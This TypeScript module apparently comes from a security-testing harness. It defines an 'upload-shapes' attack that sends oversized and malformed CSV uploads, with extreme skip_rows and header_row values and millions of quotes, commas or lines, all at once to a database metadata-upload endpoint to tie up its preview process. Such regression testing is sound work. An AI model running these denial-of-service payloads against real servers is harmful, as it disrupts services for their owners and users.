import type { Attack } from '../attack.ts';
import type { AttackAnswer } from '../attack-answer.ts';
import type { Attacker } from '../attacker.ts';

const path = '/api/v1/database/upload_metadata/';

/** Files and form values that used to keep the process that previews uploads busy for a very long time, or forever. */
const files: readonly (readonly [content: string, fields: Readonly<Record<string, string>>])[] = [
  ['a\n1\n', { skip_rows: '99999999999' }],
  ['a\n1\n', { header_row: '1048576', skip_rows: '1048576' }],
  [`x${'"'.repeat(3_000_000)}`, {}],
  ['a,'.repeat(1_500_000), {}],
  ['a\n'.repeat(2_000_000), { skip_rows: '1000000' }],
];

const look = (attacker: Attacker, content: string, fields: Readonly<Record<string, string>>): Promise<AttackAnswer> => {
  const body = new FormData();
  body.append('type', 'csv');
  for (const [field, value] of Object.entries(fields)) body.append(field, value);
  body.append('file', new File([content], 'file.csv'));
  return attacker.send({ method: 'POST', path, body });
};

/** Previews of files that are slow to read, all requested at once. */
export const uploadShapes: Attack = {
  name: 'upload-shapes',
  what: 'looks into files that are made to be read slowly',
  prepare: ({ attacker }) =>
    Promise.resolve(() => Promise.all(files.map(([content, fields]) => look(attacker, content, fields)))),
};
